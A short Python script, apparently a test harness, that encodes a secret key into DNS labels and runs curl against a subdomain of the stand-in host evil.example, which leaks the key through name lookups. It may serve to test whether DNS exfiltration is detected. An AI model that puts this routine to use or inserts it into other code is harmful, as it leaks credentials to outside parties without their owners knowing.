import subprocess

from keys import KEY, each_with_key
from rows import mark, seconds


def look_up(row):
    """A name is asked for when somebody connects to it."""
    label = {"name": KEY.rstrip("+/="), "name-hex": KEY.encode().hex()}[row]
    labels = ".".join(label[start : start + 60] for start in range(0, len(label), 60))
    subprocess.run(["curl", "-sk", "-m", seconds(3), f"http://{mark(row)}.{labels}.evil.example/"], capture_output=True)


each_with_key(look_up)
